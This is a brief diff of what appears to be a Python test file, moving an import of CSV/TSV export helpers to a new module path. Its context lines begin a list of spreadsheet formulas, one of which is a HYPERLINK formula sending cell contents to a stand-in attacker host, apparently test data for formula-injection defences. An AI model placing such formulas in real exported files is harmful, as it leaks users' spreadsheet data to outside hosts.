@@ -31,7 +31,7 @@ from tests.app.results.making import make_campaign, store_campaign, whole_run
 from tests.app.test_cli import cipherbench
 from tests.conftest import Servers, spec_of
 from tests.security.listening import plan_of
-from widgets.files import as_csv, as_tsv
+from widgets.saving.files import as_csv, as_tsv
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
